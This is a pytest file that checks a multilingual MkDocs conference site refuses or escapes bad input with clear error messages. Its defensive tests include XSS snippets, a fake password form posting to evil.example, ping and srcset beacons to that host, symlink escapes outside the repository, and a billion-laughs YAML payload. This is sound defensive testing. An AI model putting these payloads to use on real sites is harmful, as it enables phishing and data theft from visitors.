"""Bad input stops the build with a message that names the file and the fix."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from support.project import build


def append(path, text):
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def replace(path, old, new):
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} is not in {path.name}"
    path.write_text(text.replace(old, new), encoding="utf-8")


def build_error(project, tmp_path, language: str) -> str:
    """Build the project copy in one language; it must fail. Returns the build's log."""
    result = build(project / "mkdocs.yml", tmp_path / "out", language=language)
    assert result.returncode != 0, "the build did not stop"
    return result.stderr


def test_a_copy_of_the_project_builds(project_copy, tmp_path):
    """The baseline for the tests below: without the bad input, the copy builds."""
    result = build(project_copy / "mkdocs.yml", tmp_path / "out", language="en")
    assert result.returncode == 0, result.stderr


def test_a_link_to_a_missing_page_fails_naming_the_file(project_copy, tmp_path):
    append(project_copy / "docs/en/about.md", "\nSee [the agenda](agenda.md).\n")
    error = build_error(project_copy, tmp_path, language="en")
    assert "en/about.md" in error and "agenda.md" in error


def test_a_link_to_a_missing_anchor_fails_naming_the_file_and_anchor(project_copy, tmp_path):
    append(project_copy / "docs/en/programme.md", "\nSee [point 12](conclusions.md#point-12).\n")
    error = build_error(project_copy, tmp_path, language="en")
    assert "en/programme.md" in error and "point-12" in error


def test_kosovo_without_its_asterisk_fails_naming_file_and_line(project_copy, tmp_path):
    page = project_copy / "docs/en/partners.md"
    append(page, "\nKosovo took part.\n")
    line = page.read_text(encoding="utf-8").count("\n")
    error = build_error(project_copy, tmp_path, language="en")
    assert f"docs/en/partners.md, line {line}" in error and "Kosovo*" in error


def test_a_malformed_date_marker_fails_naming_the_file(project_copy, tmp_path):
    append(project_copy / "docs/en/about.md", "\nOn [[2021-13-06]].\n")
    error = build_error(project_copy, tmp_path, language="en")
    assert "docs/en/about.md" in error and "[[2021-13-06]]" in error


def test_numbered_points_without_a_list_fail_naming_the_file(project_copy, tmp_path):
    replace(project_copy / "docs/en/about.md", "title: About", "title: About\nnumbered_points: true")
    error = build_error(project_copy, tmp_path, language="en")
    assert "docs/en/about.md" in error and "numbered_points" in error


def test_an_interface_string_missing_from_a_translation_fails_naming_file_and_key(project_copy, tmp_path):
    strings = project_copy / "strings/fr.yml"
    strings.write_text(
        "\n".join(line for line in strings.read_text(encoding="utf-8").splitlines() if not line.startswith("footer.privacy")),
        encoding="utf-8",
    )
    error = build_error(project_copy, tmp_path, language="fr")
    assert "strings/fr.yml" in error and "footer.privacy" in error


def test_a_site_name_without_its_short_name_in_brackets_fails_naming_file_and_key(project_copy, tmp_path):
    """The header's wordmark ("Jumbo 2021") is the name in brackets in site.name."""
    replace(project_copy / "strings/fr.yml", "régionale (Jumbo) de", "régionale Jumbo de")
    error = build_error(project_copy, tmp_path, language="fr")
    assert "strings/fr.yml: site.name" in error and "short name in brackets" in error, error[-600:]


@pytest.mark.parametrize(
    "line,message",
    [
        ('suggest.tagline: "Na latinici"\n', "unknown key(s) suggest.tagline"),
        ('suggest.dismiss: "Zatvorite"\n', "key(s) suggest.dismiss only repeat the transliteration of sr.yml"),
    ],
    ids=["unknown key", "a repeated transliteration"],
)
def test_serbian_latins_own_strings_hold_only_what_transliteration_cannot_make(project_copy, tmp_path, line, message):
    append(project_copy / "strings/sr-Latn.yml", line)
    error = build_error(project_copy, tmp_path, language="sr-Latn")
    assert f"strings/sr-Latn.yml: {message}" in error, error[-600:]


def test_front_matter_that_yaml_cannot_read_fails_naming_file_and_line(project_copy, tmp_path):
    replace(project_copy / "docs/en/partners.md", "description: Co-chairs", "description: Partners: co-chairs")
    error = build_error(project_copy, tmp_path, language="en")
    assert "docs/en/partners.md, line 3" in error and "quotes" in error


def test_a_page_without_a_description_fails_naming_the_file(project_copy, tmp_path):
    page = project_copy / "docs/en/about.md"
    page.write_text("\n".join(l for l in page.read_text(encoding="utf-8").splitlines() if not l.startswith("description:")), encoding="utf-8")
    error = build_error(project_copy, tmp_path, language="en")
    assert "docs/en/about.md" in error and "description" in error


@pytest.mark.parametrize(
    "snippet,problem",
    [
        ("<script>alert(1)</script>", "<script>"),
        ('<span onclick="steal()">x</span>', "inline event handler"),
        ("[x](javascript:alert(1))", "javascript:"),
        ('<iframe src="https://example.org"></iframe>', "<iframe>"),
        ("[the RCC](http://www.rcc.int/)", "http://"),
    ],
)
def test_unsafe_markup_in_a_page_fails_naming_file_and_line(project_copy, tmp_path, snippet, problem):
    page = project_copy / "docs/en/about.md"
    append(page, f"\nSee {snippet} here.\n")
    line = page.read_text(encoding="utf-8").count("\n")
    error = build_error(project_copy, tmp_path, language="en")
    assert f"docs/en/about.md, line {line}" in error and problem in error


def test_unsafe_markup_in_the_data_fails_naming_file_entry_and_field(project_copy, tmp_path):
    replace(project_copy / "data/programme.yml", "      en: Conference-wide exchanges\n", "      en: Conference-wide exchanges <script>x()</script>\n")
    error = build_error(project_copy, tmp_path, language="en")
    assert "data/programme.yml: sessions[0] (id: exchanges), field 'title': language 'en': the element <script>: pages carry no scripts" in error


def test_links_that_open_a_new_tab_carry_noopener(project_copy, tmp_path):
    append(project_copy / "docs/en/about.md", '\n[RCC](https://www.rcc.int/){ target="_blank" }\n')
    assert build(project_copy / "mkdocs.yml", tmp_path / "out", language="en").returncode == 0
    html = BeautifulSoup((tmp_path / "out/about/index.html").read_text(encoding="utf-8"), "lxml")
    link = html.select_one('a[href="https://www.rcc.int/"]')
    assert link["target"] == "_blank" and link["rel"] == ["noopener"]


SECRET = "outside-the-repository-4712"
OUTSIDE_PAGE = f"---\ntitle: Leak\ndescription: Leak\n---\n\n# Leak\n\n{SECRET}\n"


@pytest.mark.parametrize(
    "link, target",
    [
        ("docs/en/leak.md", "page"),  # a page of the site
        ("docs/assets/javascripts/leak.js", "page"),  # an asset, published as it is
        ("docs/en/outside", "folder"),  # a folder of pages
        ("data/programme.yml", "page"),  # a data file
        ("strings/en.yml", "page"),  # the interface strings
        ("docs/en/gone.md", None),  # a link to nothing
    ],
)
def test_a_symbolic_link_in_a_content_folder_stops_the_build_naming_it(project_copy, tmp_path, link, target):
    outside = tmp_path / "outside"  # beside the project copy, outside it
    outside.mkdir()
    (outside / "leak.md").write_text(OUTSIDE_PAGE, encoding="utf-8")
    path = project_copy / link
    path.unlink(missing_ok=True)
    path.symlink_to({"page": outside / "leak.md", "folder": outside, None: outside / "missing.md"}[target])
    error = build_error(project_copy, tmp_path, language="en")
    assert "Traceback" not in error, error[-2000:]
    assert f"ERROR   -  {link}: a symbolic link" in error, error[-2000:]
    for built in (tmp_path / "out").rglob("*") if (tmp_path / "out").exists() else []:
        assert not built.is_file() or SECRET not in built.read_text(encoding="utf-8", errors="replace"), built


def test_a_content_folder_whose_real_path_is_outside_the_repository_stops_the_build(project_copy, tmp_path):
    from jumbo_site.safety.content_folders import content_problem

    outside = tmp_path / "outside-strings"
    (project_copy / "strings").rename(outside)
    (project_copy / "strings").symlink_to(outside)
    assert content_problem(project_copy).startswith("strings: a symbolic link")
    (project_copy / "strings").unlink()
    outside.rename(project_copy / "strings")
    assert content_problem(project_copy) is None


def test_a_pipe_in_a_content_folder_stops_the_build_naming_it(project_copy):
    import os

    from jumbo_site.safety.content_folders import content_problem

    assert content_problem(project_copy) is None
    os.mkfifo(project_copy / "data/notes.yml")
    assert content_problem(project_copy).startswith("data/notes.yml: not a regular file")


# Data texts are Markdown: in a code span, markup passes the data check as text. The
# home page (overrides/home.html) must print it as text too, never as markup.
HOME_PAYLOADS = {
    "debate summary": ("      en: >-\n        Online radicalisation", '      en: >-\n        `<script src="assets/javascripts/x.js"></script><form action="https://evil.example/"><input type="password" name="p"></form>` Online radicalisation'),
    "co-chair name": ("      en: Regional Cooperation Council\n", '      en: "Regional Cooperation Council `<a class=md-button href=http://evil.example/ ping=https://evil.example/p>Log in</a>`"\n'),
    "partner name": ("      en: France\n", '      en: "France `<img src=x.png srcset=https://evil.example/i.png alt=x><meta name=referrer content=unsafe-url>`"\n'),
    "city": ("    en: Paris\n", '    en: "Paris `<script src=assets/javascripts/x.js></script>`"\n'),
}


def test_data_texts_on_the_home_page_are_text_never_markup(project_copy, tmp_path):
    for old, new in HOME_PAYLOADS.values():
        path = project_copy / "data" / ("programme.yml" if "radicalisation" in old or "Paris" in old else "partners.yml")
        text = path.read_text(encoding="utf-8")
        assert text.count(old) >= 1, old
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    # The attack's new docs/assets/javascripts/x.js is refused by itself (not in the reviewed
    # list: test_content_safety.py); here the texts alone must come out as text.
    result = build(project_copy / "mkdocs.yml", tmp_path / "out", language="en")
    assert result.returncode == 0, result.stderr[-2000:]
    home = BeautifulSoup((tmp_path / "out/index.html").read_text(encoding="utf-8"), "lxml")
    main = home.select_one(".home")
    assert not main.select("script, form, input, meta, img[srcset], a[ping], a[href^='http:']"), main.select("script, form, input, meta, img, a[ping]")
    shown = main.get_text()
    for fragment in ('<script src="assets/javascripts/x.js"></script>', '<input type="password" name="p">', "ping=https://evil.example/p>Log in</a>", "<meta name=referrer content=unsafe-url>", "Paris `<script src=assets/javascripts/x.js></script>`"):
        assert fragment in shown, fragment


# Inputs that stalled the build or ended it in a traceback or a crash (issue 21); the
# cases of each class are in-process in tests/unit/test_content_limits.py. {end}: the file's last line.
STALLING_INPUTS = {
    "100,000 nested [ in a page": ("docs/en/about.md", lambda data: data + b"\n" + b"[" * 100_000 + b"\n", "docs/en/about.md, line {end}: more than 20 [ brackets open at once"),
    "a Latin-1 byte in a page": ("docs/en/about.md", lambda data: data + "\nCaf\u00e9.\n".encode("latin-1"), "docs/en/about.md, line {end}, column 4: the byte 0xe9 is not UTF-8"),
    "a billion laughs in the data": ("data/partners.yml", lambda data: b"a: &a [lol, lol]\nb: &b [*a, *a]\n" + data, "data/partners.yml, line 1: an anchor"),
    "emptied kosovo.names": ("strings/en.yml", lambda data: data.replace(b"kosovo.names: [Kosovo]", b'kosovo.names: ""'), "strings/en.yml, key 'kosovo.names': expected"),
}


@pytest.mark.parametrize("name", STALLING_INPUTS)
def test_input_that_stalled_or_crashed_the_build_stops_it_with_a_message(project_copy, tmp_path, name):
    path, change, expected = STALLING_INPUTS[name]
    file = project_copy / path
    file.write_bytes(change(file.read_bytes()))
    error = build_error(project_copy, tmp_path, language="en")
    assert "Traceback" not in error, error[-2000:]
    assert expected.format(end=file.read_bytes().count(b"\n")) in error, error[-2000:]
